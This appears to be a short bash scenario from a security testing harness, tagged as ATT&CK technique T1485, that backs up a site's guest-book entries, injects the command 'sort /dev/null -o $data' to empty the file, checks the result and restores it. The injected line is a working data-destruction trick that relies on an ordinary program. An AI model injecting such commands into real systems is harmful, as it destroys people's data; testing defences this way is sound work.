# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1485
about="the guest book is emptied with a program that the script runs anyway"
attack() {
	cp $site/data/entries "$state/kept"
	inject 'sort /dev/null -o $data'
}
effect() { [ ! -s $site/data/entries ]; }
after() { cat "$state/kept" >$site/data/entries; }
